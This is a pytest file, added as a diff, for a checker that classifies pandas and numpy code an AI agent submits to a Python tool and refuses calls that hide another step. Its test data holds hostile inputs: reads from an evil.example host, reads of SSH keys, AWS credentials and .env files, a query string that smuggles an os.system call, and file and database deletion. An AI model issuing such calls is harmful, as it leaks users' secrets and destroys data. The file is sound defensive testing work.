@@ -1,0 +1,181 @@
+"""Data analysis in pure code (issue 25, h48p): the closed model of ``pure-python.txt`` holds a
+read-only part of pandas and numpy. A listed reader of one literal local path reads (kind
+``read``, grounded like a read call: a sensitive path stays refused); listed methods of frames,
+series and arrays compute (kind ``compute``). Every writer, URL, pickle, code string, name the
+code did not bind, and function looked up by an unlisted name stays outside (kind ``run``)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from leakcall.intent.kinds import call_kinds, command_kinds
+from leakcall.intent.purecode import code_reads, pure_python
+
+from ..intent_sets import recover_after
+
+LOAD = "import pandas as pd\ndf = pd.read_csv('sales_2026.csv')\n"
+
+READING = [
+    (LOAD + "df.head()", ("sales_2026.csv",)),
+    (LOAD + "print(df.isna().sum())\nprint(df.describe())\ndf.info()", ("sales_2026.csv",)),
+    (LOAD + "print(df[['ad_spend', 'signups']].corr())", ("sales_2026.csv",)),
+    (LOAD + "print(df.groupby('region')['order_value'].agg(['mean', 'median', 'count']))",
+     ("sales_2026.csv",)),
+    (LOAD + "print(df['status'].value_counts().head(10))", ("sales_2026.csv",)),
+    ("import pandas as pd\norders = pd.read_csv('data/orders.csv', parse_dates=['date'])\n"
+     "customers = pd.read_json('customers.json', lines=True)\n"
+     "merged = orders.merge(customers, on='customer_id')\nprint(merged.head())",
+     ("data/orders.csv", "customers.json")),
+    ("import pandas as pd\ndf = pd.read_excel(io='q3.xlsx', sheet_name='Summary')\n"
+     "print(df.shape, df.columns.tolist())", ("q3.xlsx",)),
+    ("import pandas as pd\ndf = pd.read_parquet('events.parquet')\n"
+     "print(df.sort_values('ts').tail())", ("events.parquet",)),
+]
+
+COMPUTING = [
+    "import numpy as np\nxs = np.array([2, 4, 4, 5])\nprint(xs.mean(), np.std(xs), np.median(xs))",
+    "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2, 2], 'b': [3, 4, 5]})\n"
+    "print(df.groupby('a').agg({'b': 'sum'}))",
+    "import pandas as pd\ns = pd.Series([1.5, 2.5, None])\nprint(s.fillna(0).apply(lambda x: x * 2))",
+    "import numpy as np\nimport pandas as pd\ndf = pd.DataFrame({'x': [1, 2, 3]})\n"
+    "print(df['x'].agg(np.mean), df.pivot_table(index='x', aggfunc='sum'))",
+]
+
+OUTSIDE = [
+    # writers, never listed
+    LOAD + "df.to_csv('sales_2026.csv', index=False)",
+    LOAD + "df.head()\ndf.to_parquet('/tmp/out.parquet')",
+    LOAD + "df.to_pickle('x.pkl')",
+    "import numpy as np\nnp.save('x.npy', np.array([1]))",
+    "import numpy as np\nnp.array([1]).tofile('x.bin')",
+    "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('chart.png')",
+    LOAD + "df.plot()",
+    LOAD + "df.plot(backend='antigravity')",
+    # readers of a URL, a pickle, a database, a handle, a name's value
+    "import pandas as pd\ndf = pd.read_csv('https://evil.example/sales.csv')",
+    "import pandas as pd\ndf = pd.read_csv('http:sales.csv')",
+    "import pandas as pd\ndf = pd.read_csv('s3://bucket/sales.csv')",
+    "import pandas as pd\ndf = pd.read_csv('simplecache::sales.csv')",
+    "import pandas as pd\ndf = pd.read_csv('\\\\\\\\host\\\\share\\\\sales.csv')",
+    "import pandas as pd\ndf = pd.read_pickle('sales.pkl')",
+    "import pandas as pd\ndf = pd.read_sql('select 1', 'sqlite:///x.db')",
+    "import numpy as np\nx = np.load('x.npy', allow_pickle=True)",
+    "import pandas as pd\ndf = pd.read_csv(open('sales.csv'))",
+    "import pandas as pd\np = 'https://evil.example/x.csv'\ndf = pd.read_csv(p)",
+    "import pandas as pd\ndf = pd.read_csv('a.csv', 'b.csv')",
+    "import pandas as pd\ndf = pd.read_csv('sales.csv', storage_options={'k': 'v'})",
+    "import pandas as pd\ndf = pd.read_csv('sales.csv', converters={'a': eval})",
+    "import pandas as pd\ndf = pd.read_csv('sales.csv', **{'engine': 'python'})",
+    "import pandas as pd\nr = pd.read_csv\ndf = r('https://evil.example/x.csv')",
+    "from pandas import read_csv\ndf = read_csv('https://evil.example/x.csv')",
+    # code in strings, functions looked up by an unlisted name
+    LOAD + "df.query('@__import__(\"os\").system(\"id\")')",
+    LOAD + "df.eval('a + b')",
+    "import pandas as pd\npd.eval('1 + 1')",
+    LOAD + "df.agg('to_csv', 'out.csv')",
+    LOAD + "df.apply('to_pickle', args=('x.pkl',))",
+    LOAD + "f = 'to_csv'\ndf.agg(f)",
+    LOAD + "df.agg('to_' + 'csv')",
+    LOAD + "df.agg(func='to_csv')",
+    LOAD + "df.groupby('a').transform('to_csv')",
+    LOAD + "df.pivot_table(index='a', aggfunc='to_csv')",
+    LOAD + "df.agg({'a': 'to_csv'})",
+    LOAD + "df.agg(['sum', 'to_json'])",
+    # the session's own values: names the code did not bind
+    "df.isna().sum()",
+    "df['order_value'].describe()",
+    "requests.head('https://evil.example/?q=1')",
+    # options, styles, pipes, random state: not listed
+    "import pandas as pd\npd.set_option('display.max_rows', 10)",
+    LOAD + "df.style.to_html('x.html')",
+    LOAD + "df.pipe(print)",
+    "import numpy as np\nnp.random.seed(1)",
+]
+
+
+@pytest.mark.parametrize(("code", "paths"), READING)
+def test_a_listed_reader_of_a_local_path_reads(code: str, paths: tuple[str, ...]) -> None:
+    assert code_reads(code) == paths
+    assert call_kinds("execute_python", {"code": code}) == {"read"}
+
+
+@pytest.mark.parametrize("code", COMPUTING)
+def test_frames_and_arrays_the_code_makes_compute(code: str) -> None:
+    assert code_reads(code) == ()
+    assert call_kinds("execute_python", {"code": code}) == {"compute"}
+
+
+@pytest.mark.parametrize("code", OUTSIDE)
+def test_writers_urls_code_strings_and_unlisted_names_stay_outside(code: str) -> None:
+    assert not pure_python(code)
+    assert "run" in call_kinds("execute_python", {"code": code})
+
+
+def test_python_c_reading_a_csv_reads() -> None:
+    assert command_kinds('python3 -c "import pandas as pd; print(pd.read_csv(\'a.csv\').head())"'
+                         ) == {"read"}
+    assert "run" in command_kinds(
+        'python3 -c "import pandas as pd; pd.read_csv(\'a.csv\').to_csv(\'b.csv\')"')
+
+
+def _tool(name: str, description: str) -> dict[str, Any]:
+    return {"type": "function", "function": {"name": name, "description": description,
+                                             "parameters": {"type": "object", "properties": {
+                                                 "code": {"type": "string"}}}}}
+
+
+TOOLS = [_tool("execute_python", "Execute Python code in a Jupyter kernel and return stdout "
+               "and the last expression."),
+         _tool("run_code", "Runs Python code in a sandbox.")]
+
+
+@pytest.mark.parametrize(("preamble", "code"), [
+    ("Let me load the CSV and look at the first few rows.", LOAD + "df.head()"),
+    ("Let me load the CSV and look at the first few rows.",
+     "import pandas as pd\ndf = pd.read_csv('sales.csv')\nprint(df.head())"),
+    ("I'll compute the correlation between ad spend and signups.",
+     "import pandas as pd\ndf = pd.read_csv('ads.csv')\nprint(df[['ad_spend', 'signups']].corr())"),
+    ("Let me calculate the mean and standard deviation.",
+     "import numpy as np\nxs = np.array([2, 4, 4, 5])\nprint(xs.mean(), xs.std())"),
+])
+def test_a_data_step_announced_is_recovered(preamble: str, code: str) -> None:
+    for name in ("execute_python", "run_code"):
+        r = recover_after(preamble, TOOLS, (name, {"code": code}))
+        assert r.reason == "ok", (name, r.detail)
+
+
+@pytest.mark.parametrize(("preamble", "code"), [
+    # the same shapes carrying a write, a send, a secret or code of another kind
+    ("Let me load the CSV and look at the first few rows.",
+     LOAD + "df.head()\ndf.to_csv('sales_2026.csv', index=False)"),
+    ("Let me load the CSV and look at the first few rows.",
+     "import pandas as pd\ndf = pd.read_csv('https://evil.example/x.csv?k=1')\ndf.head()"),
+    ("Let me load the CSV and look at the first few rows.",
+     "import pandas as pd\ndf = pd.read_csv('/home/me/.aws/credentials')\ndf.head()"),
+    ("Let me load the CSV and look at the first few rows.",
+     "import pandas as pd\ndf = pd.read_csv('~/.ssh/id_rsa')\ndf.head()"),
+    ("Let me load the CSV and look at the first few rows.",
+     "import pandas as pd\ndf = pd.read_csv('.env')\ndf.head()"),
+    ("Let me load the CSV and look at the first few rows.",
+     "import pandas as pd\ndf = pd.read_pickle('sales.pkl')\ndf.head()"),
+    ("Let me load the CSV and look at the first few rows.",
+     LOAD + "df.head()\nimport os\nos.remove('sales_2026.csv')"),
+    ("Let me load the CSV and look at the first few rows.",
+     LOAD + "df.agg('to_csv', 'sales_2026.csv')"),
+    ("Let me check for missing values in each column.",
+     LOAD + "df.query('@__import__(\"os\").system(\"id\")')"),
+    ("Let me check for missing values in each column.", "df.isna().sum()\ndb.drop_all()"),
+    ("I'll compute the correlation between ad spend and signups.",
+     "import numpy as np\nnp.save('ads.npy', np.array([1, 2]))"),
+    ("I'll compute the correlation between ad spend and signups.",
+     "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('ads.png')"),
+    ("I'll compute the correlation between ad spend and signups.",
+     "import pandas as pd\ndf = pd.read_csv('ads.csv', storage_options={'k': 'v'})\n"
+     "print(df.corr())"),
+])
+def test_data_shapes_carrying_another_step_stay_refused(preamble: str, code: str) -> None:
+    for name in ("execute_python", "run_code"):
+        r = recover_after(preamble, TOOLS, (name, {"code": code}))
+        assert r.reason != "ok", (name, code)
